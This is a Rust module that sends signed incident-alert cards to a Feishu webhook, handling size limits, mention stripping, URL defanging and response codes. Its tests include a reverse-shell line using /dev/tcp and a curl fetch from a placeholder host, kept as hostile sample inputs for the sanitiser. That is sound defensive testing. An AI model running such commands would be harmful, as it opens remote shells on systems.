//! Feishu's custom bot: a signed POST of an interactive card, and an answer whose `code` tells.
//!
//! Documented at <https://open.feishu.cn/document/client-docs/bot-v3/add-custom-bot>: 100 messages a
//! minute and 5 a second, a body of at most 20 KB, a signature that uses `timestamp\nsecret` as the
//! HMAC key over nothing.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use cordon_analyst::Severity;
use hmac::{Hmac, KeyInit as _, Mac as _};
use jiff::Timestamp;
use serde::Deserialize;
use serde_json::{Value, json};
use sha2::Sha256;

use super::error::excerpt;
use super::{Card, Channel, Language, NotifyError};

/// The limit is 20 KB; whether that is 20,000 or 20,480 is not said.
const MAX_BODY_BYTES: usize = 20_000;
const MOST_CHARS_A_TEXT: usize = 4_000;

/// Answers that pass by themselves: 11232 and 99991400 are rate limits, 11233 and 9503 busy.
const PASSING_CODES: [i64; 4] = [11_232, 11_233, 9_503, 99_991_400];

/// The request body, within the platform's limit.
pub(super) fn body(card: &Card, secret: Option<&str>, now: Timestamp) -> Vec<u8> {
    let mut chars = MOST_CHARS_A_TEXT;
    loop {
        let body = message(card, secret, now, chars);
        // A text of 60 characters in 3 bytes each always fits: the loop ends.
        if body.len() <= MAX_BODY_BYTES || chars < 60 {
            return body;
        }
        chars /= 2;
    }
}

fn message(card: &Card, secret: Option<&str>, now: Timestamp, chars: usize) -> Vec<u8> {
    let mut message = json!({ "msg_type": "interactive", "card": interactive(card, chars) });
    if let Some(secret) = secret {
        let timestamp = now.as_second().to_string();
        message["sign"] = signature(secret, &timestamp).into();
        message["timestamp"] = timestamp.into();
    }
    serde_json::to_vec(&message).expect("JSON values have string keys only")
}

fn signature(secret: &str, timestamp: &str) -> String {
    let key = format!("{timestamp}\n{secret}");
    let mac =
        Hmac::<Sha256>::new_from_slice(key.as_bytes()).expect("HMAC takes keys of any length");
    BASE64.encode(mac.finalize().into_bytes())
}

fn interactive(card: &Card, chars: usize) -> Value {
    let words = Words::of(card.language);
    let mut elements = vec![
        text(
            &format!("{}{}", words.severity, words.level(card.severity)),
            chars,
        ),
        text(&card.summary, chars),
        text(&format!("{}{}", words.risk, card.risk), chars),
        json!({ "tag": "hr" }),
        text(
            &list(words.measures, words.no_measures, &card.measures),
            chars,
        ),
    ];
    if !card.advice.is_empty() {
        elements.push(text(&list(words.advice, "", &card.advice), chars));
    }
    if let Some(link) = card.link.as_deref().filter(|link| is_web(link)) {
        elements.push(json!({ "tag": "action", "actions": [{
            "tag": "button", "type": "primary", "url": link,
            "text": { "tag": "plain_text", "content": words.open },
        }]}));
    }
    json!({
        "config": { "wide_screen_mode": true },
        "header": { "template": colour(card.severity), "title": plain(&card.title, 200) },
        "elements": elements,
    })
}

fn is_web(link: &str) -> bool {
    link.starts_with("https://") || link.starts_with("http://")
}

fn text(content: &str, chars: usize) -> Value {
    json!({ "tag": "div", "text": plain(content, chars) })
}

/// `plain_text` parses neither markdown nor mentions. The rest is for clients that are cleverer than
/// the documentation: a mention loses its bracket, and an address that a client would make a link of
/// loses its scheme.
fn plain(content: &str, chars: usize) -> Value {
    let cut: String = if content.chars().count() > chars {
        content
            .chars()
            .take(chars.saturating_sub(1))
            .chain(['…'])
            .collect()
    } else {
        content.to_owned()
    };
    let harmless = defang(&without_mentions(&cut));
    json!({ "tag": "plain_text", "content": harmless })
}

fn without_mentions(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for (index, c) in text.char_indices() {
        let follows = text.get(index + 1..).unwrap_or("");
        let name = follows.strip_prefix('/').unwrap_or(follows);
        let is_mention = c == '<'
            && name
                .get(..2)
                .is_some_and(|tag| tag.eq_ignore_ascii_case("at"));
        out.push(if is_mention { '‹' } else { c });
    }
    out
}

fn defang(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        let (before, after) = rest.split_at(at);
        match before.len().checked_sub(4).and_then(|n| before.get(n..)) {
            Some(tail) if tail.eq_ignore_ascii_case("http") => {
                out.push_str(&before[..before.len() - 4]);
                out.push_str("hxxp");
            }
            Some(tail) if tail.eq_ignore_ascii_case("ttps") => {
                out.push_str(&before[..before.len() - 4]);
                out.push_str("xxps");
            }
            _ => out.push_str(before),
        }
        out.push_str("://");
        rest = &after[3..];
    }
    out.push_str(rest);
    out
}

fn list(heading: &str, empty: &str, items: &[String]) -> String {
    if items.is_empty() {
        return format!("{heading}\n{empty}");
    }
    let lines: Vec<String> = items.iter().map(|item| format!("• {item}")).collect();
    format!("{heading}\n{}", lines.join("\n"))
}

fn colour(severity: Severity) -> &'static str {
    match severity {
        Severity::Critical => "carmine",
        Severity::High => "red",
        Severity::Medium => "orange",
        Severity::Low => "blue",
    }
}

/// The card's own words.
struct Words {
    severity: &'static str,
    levels: [&'static str; 4],
    risk: &'static str,
    measures: &'static str,
    no_measures: &'static str,
    advice: &'static str,
    open: &'static str,
}

const ENGLISH: Words = Words {
    severity: "Risk level: ",
    levels: ["low", "medium", "high", "critical"],
    risk: "Risk: ",
    measures: "Measures already taken:",
    no_measures: "none",
    advice: "What to do next:",
    open: "Open the incident",
};

const CHINESE: Words = Words {
    severity: "风险等级：",
    levels: ["低", "中", "高", "严重"],
    risk: "风险：",
    measures: "已采取的措施：",
    no_measures: "无",
    advice: "建议：",
    open: "查看事件",
};

impl Words {
    fn of(language: Language) -> &'static Self {
        match language {
            Language::En => &ENGLISH,
            Language::Zh => &CHINESE,
        }
    }

    fn level(&self, severity: Severity) -> &'static str {
        self.levels[severity as usize]
    }
}

#[derive(Deserialize)]
struct Answer {
    #[serde(alias = "StatusCode")]
    code: i64,
    #[serde(default, alias = "StatusMessage")]
    msg: String,
}

/// Feishu answers 200 to everything it understood; only code 0 is a delivery.
pub(super) fn check(channel: &Channel, answer: &[u8]) -> Result<(), NotifyError> {
    let host = channel.host();
    let Ok(Answer { code, msg }) = read_answer(answer) else {
        return Err(NotifyError::Unwilling {
            host,
            answer: format!("an answer that is not Feishu's, {}", excerpt(answer)),
        });
    };
    let words = format!("code {code}, {}", excerpt(msg.as_bytes()));
    match code {
        0 => Ok(()),
        11_232 | 99_991_400 => Err(NotifyError::Muted {
            host,
            wait: std::time::Duration::from_mins(1),
        }),
        _ if PASSING_CODES.contains(&code) => Err(NotifyError::Unwilling {
            host,
            answer: words,
        }),
        _ => Err(NotifyError::Refused {
            host,
            answer: words,
        }),
    }
}

/// Successful answers carry both the old (`StatusCode`) and the new (`code`) field, which an alias
/// would reject as a repeat; so the new one is taken when it is there.
fn read_answer(answer: &[u8]) -> Result<Answer, serde_json::Error> {
    let mut value: Value = serde_json::from_slice(answer)?;
    if let Some(fields) = value.as_object_mut()
        && fields.contains_key("code")
    {
        fields.remove("StatusCode");
        fields.remove("StatusMessage");
    }
    serde_json::from_value(value)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn signature_is_that_of_another_implementation() {
        // python: base64(hmac.new(b"1800000000\ns3cret", b"", sha256))
        assert_eq!(
            signature("s3cret", "1800000000"),
            "BkUoIxkwhhcDRxia8PM6tr4uQ1ZKSPnbx1VyMFFVJgw="
        );
    }

    #[test]
    fn mentions_and_links_are_taken_apart() {
        for (hostile, harmless) in [
            ("<at id=all></at>", "‹at id=all>‹/at>"),
            ("<AT user_id=\"all\">x</At>", "‹AT user_id=\"all\">x‹/At>"),
            ("sh -i >& /dev/tcp/x <&1", "sh -i >& /dev/tcp/x <&1"),
            (
                "curl http://e.example/x https://f.example",
                "curl hxxp://e.example/x hxxps://f.example",
            ),
            ("HTTPS://X ://", "Hxxps://X ://"),
            ("中<", "中<"),
        ] {
            assert_eq!(defang(&without_mentions(hostile)), harmless);
        }
    }

    #[test]
    fn answers_are_told_apart() {
        let channel = Channel {
            kind: super::super::Kind::Feishu,
            url: "https://open.feishu.cn/open-apis/bot/v2/hook/token".into(),
            secret: None,
        };
        let verdict = |answer: &[u8]| check(&channel, answer);
        assert!(
            verdict(
                br#"{"StatusCode":0,"StatusMessage":"success","code":0,"data":{},"msg":"success"}"#
            )
            .is_ok()
        );
        assert!(verdict(br#"{"StatusCode":0,"StatusMessage":"success"}"#).is_ok());
        assert!(matches!(
            verdict(br#"{"code":19021,"msg":"sign match fail"}"#),
            Err(NotifyError::Refused { .. })
        ));
        assert!(matches!(
            verdict(br#"{"code":11232,"msg":"too many request"}"#),
            Err(NotifyError::Muted { .. })
        ));
        assert!(matches!(
            verdict(b"<html>"),
            Err(NotifyError::Unwilling { .. })
        ));
    }
}
